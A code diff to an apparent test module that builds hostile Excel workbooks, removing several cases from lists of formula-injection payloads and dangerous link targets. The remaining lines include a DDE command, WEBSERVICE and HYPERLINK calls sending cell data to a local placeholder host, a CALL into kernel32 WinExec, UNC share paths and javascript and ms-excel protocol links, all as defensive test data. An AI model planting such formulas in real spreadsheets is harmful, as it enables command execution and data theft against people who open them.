@@ -11,7 +11,6 @@ from tests.hostile.book import (
     MAIN,
     OFFICE,
     PACKAGE,
-    ROOT,
     SETTING_ROWS,
     TYPES,
     WORKBOOK,
@@ -32,10 +31,8 @@ _FORMULAS = {
     "a command by DDE": "HOSTILE|'/c calc'!A1",
     "a web service": 'WEBSERVICE("http://127.0.0.1:9/HOSTILE?"&amp;A1)',
     "a link": 'HYPERLINK("http://127.0.0.1:9/HOSTILE","Rechnung")',
-    "an external workbook": "[1]HOSTILE!$A$1",
     "a workbook on a share": r"'\\127.0.0.1\share\[HOSTILE.xlsx]x'!A1",
     "a call of a library": 'CALL("kernel32","WinExec","JCJ","HOSTILE",0)',
-    "a circle": "O8+1",
     "a formula of 60,000 letters": "1" + "+1" * 30_000,
 }
 _STARTS = ("=", "+", "-", "@", "\t=", "\r=", "{=", "'=", "\uff1d", "file:///")
@@ -44,7 +41,6 @@ _TARGETS = {
     "a share": r"\\127.0.0.1\share\HOSTILE.exe",
     "a script": "javascript:HOSTILE",
     "a protocol of Office": "ms-excel:ofe|u|http://127.0.0.1:9/HOSTILE.xlsm",
-    "a search": "search-ms:query=HOSTILE",
     "65,000 letters": "http://127.0.0.1:9/" + "x" * 65_000,
 }
 #: Parts that make Excel do something, with the kind of their relation.
@@ -202,13 +198,6 @@ CASES: tuple[Case, ...] = (
         FAMILY,
         "a template to attach from the web",
         lambda book: book.link("", "attachedTemplate", "http://127.0.0.1:9/HOSTILE.dotm", external=True),
-    ),
-    spoiled(
-        FAMILY,
-        "the root relations lead to the web",
-        lambda book: book.sub(
-            ROOT, 'Target="xl/workbook.xml"', 'Target="http://127.0.0.1:9/workbook.xml" TargetMode="External"'
-        ),
     ),
     spoiled(
         FAMILY,
